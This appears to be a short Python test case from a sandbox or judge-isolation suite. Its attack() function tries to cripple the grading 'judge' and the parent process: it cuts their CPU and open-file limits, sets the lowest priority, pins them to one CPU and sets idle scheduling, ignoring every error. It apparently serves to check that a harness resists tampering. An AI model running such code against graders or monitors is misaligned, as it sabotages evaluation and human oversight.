# what: set limits, priority, processors and scheduling of the judge and the worker
# passes: yes

import os
import resource


def attack():
    for pid in {JUDGE, os.getppid()} - {0, 1}:
        for act in (
            lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)), lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
            lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19),
            lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(pid), 19),
        ):  # fmt: skip
            try:
                act()
            except OSError:
                pass
    return True
